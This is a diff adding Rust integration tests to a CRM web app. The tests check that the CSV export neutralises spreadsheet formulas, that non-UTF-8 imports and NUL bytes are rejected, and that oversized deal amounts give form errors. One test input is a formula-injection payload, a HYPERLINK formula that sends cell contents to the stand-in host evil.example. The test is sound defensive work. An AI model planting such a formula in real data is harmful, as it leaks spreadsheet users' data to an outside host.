@@ -150,3 +150,111 @@ async fn a_write_lock_held_elsewhere_is_a_503_for_every_kind_of_write() {
     assert_eq!(companies_named(&site, "Locked Out Ltd").await, 0);
     assert_eq!(client.post_form("/contacts/8/delete/", &[]).await.status(), 302, "served once the lock is gone");
 }
+
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas_and_the_import_refuses_what_is_not_utf8() {
+    let site = crm_site("csv-hygiene", &[]);
+    let mut client = logged_in(&site).await;
+    let resp = client
+        .post_form(
+            "/contacts/new/",
+            &[
+                ("first_name", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"),
+                ("last_name", "@SUM(1+1)"),
+                ("company_id", "1"),
+                ("email", "formula@example.com"),
+                ("title", "-2+3"),
+                ("phone", "+4712345678"),
+            ],
+        )
+        .await;
+    assert_eq!(resp.status(), 302, "{}", resp.text());
+    let csv = client.get("/contacts/export.csv").await;
+    assert_eq!(csv.status(), 200);
+    let rows = djambda::http::csv::read(csv.bytes()).expect("the export reads back");
+    let row = rows.iter().find(|r| r.cells.get(4).is_some_and(|e| e == "formula@example.com")).expect("the row");
+    assert_eq!(row.cells[1], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")");
+    assert_eq!(row.cells[2], "'@SUM(1+1)");
+    assert_eq!(row.cells[3], "'-2+3");
+    assert_eq!(row.cells[5], "+4712345678", "a phone number is a number, not a formula");
+    for r in &rows {
+        for cell in &r.cells {
+            assert!(!cell.starts_with(['=', '@']), "line {}: {cell:?} would run as a formula", r.line);
+        }
+    }
+
+    // A Latin-1 file (a spreadsheet's "CSV" export on Windows): a form error naming the line,
+    // nothing imported, nothing changed to U+FFFD.
+    let before = {
+        let db = site.database().connection().await.unwrap();
+        contact::Entity::find().count(&db).await.unwrap()
+    };
+    let boundary = "latin1";
+    let mut body = format!(
+        "--{boundary}\r\nContent-Disposition: form-data; name=\"company_id\"\r\n\r\n2\r\n\
+         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\"\r\n\
+         Content-Type: text/csv\r\n\r\nfirst_name,last_name,email\nAda,Lovelace,ada@example.com\n"
+    )
+    .into_bytes();
+    body.extend_from_slice(b"Jos\xe9,Mart\xedn,jose@example.com\n\r\n");
+    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
+    let resp = client
+        .send(
+            http::Method::POST,
+            "/contacts/import/",
+            Some(&format!("multipart/form-data; boundary={boundary}")),
+            body.into(),
+        )
+        .await;
+    assert_eq!(resp.status(), 200, "the form again: {}", resp.text());
+    assert!(resp.text().contains("Line 3:") && resp.text().contains("not UTF-8"), "{}", resp.text());
+    let db = site.database().connection().await.unwrap();
+    assert_eq!(contact::Entity::find().count(&db).await.unwrap(), before, "nothing imported");
+}
+
+#[tokio::test]
+async fn text_with_nul_and_amounts_past_the_column_are_form_errors() {
+    let site = crm_site("input-hygiene", &[]);
+    let mut client = logged_in(&site).await;
+    let resp = client
+        .post_form("/companies/new/", &[("name", "Null\0Byte Ltd"), ("slug", "null-byte"), ("city", "Oslo")])
+        .await;
+    assert_eq!(resp.status(), 200, "the form again");
+    assert!(resp.text().contains("Null characters are not allowed."), "{}", resp.text());
+    assert_eq!(companies_named(&site, "Null\0Byte Ltd").await, 0);
+
+    // deal.amount is numeric(12, 2): ten digits before the point at most.
+    for (amount, message) in [
+        ("99999999999999999999", "Ensure that there are no more than 12 digits in total."),
+        ("12345678901.5", "Ensure that there are no more than 10 digits before the decimal point."),
+        ("1.005", "Ensure that there are no more than 2 decimal places."),
+    ] {
+        let resp = client
+            .post_form(
+                "/deals/new/",
+                &[
+                    ("title", "Too big"),
+                    ("company_id", "1"),
+                    ("stage", "lead"),
+                    ("amount", amount),
+                    ("expected_close", "2027-05-01"),
+                ],
+            )
+            .await;
+        assert_eq!(resp.status(), 200, "{amount}: the form again");
+        assert!(resp.text().contains(message), "{amount}: {message}\n{}", resp.text());
+    }
+    let resp = client
+        .post_form(
+            "/deals/new/",
+            &[
+                ("title", "Just fits"),
+                ("company_id", "1"),
+                ("stage", "lead"),
+                ("amount", "-9999999999.99"),
+                ("expected_close", "2027-05-01"),
+            ],
+        )
+        .await;
+    assert_eq!(resp.status(), 302, "the largest amount the column holds: {}", resp.text());
+}
